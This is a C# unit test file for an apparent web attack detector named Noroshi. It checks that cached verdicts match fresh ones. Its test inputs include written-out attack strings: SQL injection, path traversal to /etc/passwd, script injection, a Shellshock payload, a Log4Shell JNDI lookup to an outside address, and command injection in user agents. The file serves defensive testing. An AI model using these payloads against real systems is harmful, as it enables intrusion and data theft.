using Noroshi.Sensor.Detectors.Web;

namespace Noroshi.Tests.Sensor.Detectors.Web;

/// <summary>What judges remember makes them faster and changes nothing of what they say.</summary>
public sealed class SeenTextsTests
{
    private static readonly string[] Paths = ["/", "/news/1.html", "/search", "/api/v1/items", "/a/../../etc/passwd", "/press-union-members/select.css", "/it's"];
    private static readonly string[] Names = ["q", "id", "page", "page[after]", "page%5Bsize%5D", "cmd", "utm_source", "where", "SAMLResponse", "user[$ne]", "PHPSESSID", "file", ""];
    private static readonly string[] Values =
    [
        "1", "newsletter", "o%27reilly+books", "1%27+or+%271%27=%271", "1=1", "..%2F..%2Fetc%2Fpasswd", "%3Cscript%3Ealert(1)%3C/script%3E", "id", "cat+/etc/passwd", "",
        "https%3A%2F%2Fwww.example.org%2F", "select+a+plan", "--", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg", "NjKpjWwdU_A7-jC4s3xQjJrSZGBDfwhgfl17Vt891Tjd", "0123456789abcdef0123456789abcdef", "'", "a=b;id",
    ];
    private static readonly string[] Agents =
    [
        Judged.Browser, "", "curl/8.5.0", "sqlmap/1.8", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) Mobile/22B83 [FBAN/FBIOS;FBAV/510.0.0.48.90;FBLC/ja_JP]",
        "() { :;}; /bin/id", "[FBAN/FBIOS;FBAV/1]${jndi:ldap://203.0.113.9/a}", "[a]", "Mozilla/5.0 [FBAN/FBIOS;FBAV/1", "x [a/b;c] ; cat /etc/passwd",
    ];

    [Fact]
    public void Judge_WithAllItRemembers_SaysWhatAJudgeSaysThatSawNothing()
    {
        var chance = new Random(17);
        var seen = new SeenTexts(5);
        WebJudge[] judges = [new(Judged.Knowledge, seen), new(Judged.Knowledge, seen)];
        for (var i = 0; i < 4000; i++)
        {
            var (target, agent) = (Target(chance), Agents[chance.Next(Agents.Length)]);
            var referer = chance.Next(4) switch { 0 => "", 1 => "-", 2 => "http://198.51.100.7:8080" + Target(chance), _ => (chance.Next(8) == 0 ? "https://a'><b" : "https://www.example.jp") + Target(chance) };

            var (alone, remembering) = (Judged.Of(target, agent, referer), Judged.Of(judges[chance.Next(2)], target, agent, referer));
            Assert.True(alone == remembering, $"{target} {agent} {referer}: {alone}, and {remembering}");
        }
    }

    [Fact]
    public void Judge_OnManyThreadsWithOneMemory_SaysWhatAJudgeSaysAlone()
    {
        var chance = new Random(18);
        string[] targets = [.. Enumerable.Range(0, 300).Select(_ => Target(chance))];
        WebVerdict[] expected = [.. targets.Select(Judged.Target)];
        var seen = new SeenTexts(6);
        Parallel.For(0, 8, _ =>
        {
            var judge = new WebJudge(Judged.Knowledge, seen);
            for (var round = 0; round < 5; round++)
            {
                Assert.Equal(expected, targets.Select(t => Judged.Of(judge, t, Judged.Browser, "")));
            }
        });
    }

    [Theory]
    [InlineData("https://www.example.jp/a?x=<script>alert(1)</script>")]
    [InlineData("https://a'><script>alert(1)</script>/news/1.html")]
    [InlineData("() { :;}; /bin/id")]
    public void Judge_AttackInTheReferer_IsFoundAlsoWhereItsPathWasSeen(string referer)
    {
        var judge = Judged.NewJudge();
        Judged.Of(judge, "/news/1.html", Judged.Browser, "");
        Assert.NotEqual(Tier.None, Judged.Of(judge, "/", Judged.Browser, referer).Tier);
    }

    [Theory]
    [InlineData("[FBAN/FBIOS;FBAV/1]${jndi:ldap://203.0.113.9/a}")]
    [InlineData("Mozilla/5.0 [FBAN/FBIOS;FBAV/`id`]")]
    [InlineData("[FBAN/FBIOS;cat /etc/passwd;FBAV/1]")]
    public void Judge_AttackAmongAnAppsBrackets_IsFound(string agent) => Assert.NotEqual(Tier.None, Judged.Agent(agent).Tier);

    private static string Target(Random chance)
    {
        var parameters = Enumerable.Range(0, chance.Next(4)).Select(_ => Names[chance.Next(Names.Length)] + (chance.Next(9) == 0 ? "" : "=") + Values[chance.Next(Values.Length)]).ToArray();
        return Paths[chance.Next(Paths.Length)] + (parameters.Length == 0 ? "" : "?") + string.Join('&', parameters);
    }
}
